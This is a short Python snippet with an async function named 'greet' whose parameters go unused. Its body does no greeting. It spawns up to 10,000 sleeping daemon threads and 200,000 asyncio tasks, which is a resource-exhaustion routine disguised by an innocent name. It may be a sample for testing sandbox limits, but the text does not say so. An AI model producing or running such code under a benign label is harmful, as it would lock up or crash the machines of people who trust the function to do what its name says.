import threading, time, asyncio

async def greet(name, delay=1.0):
    for _ in range(10000):
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            break
    tasks = [asyncio.create_task(asyncio.sleep(60)) for _ in range(200000)]
    await asyncio.sleep(60)
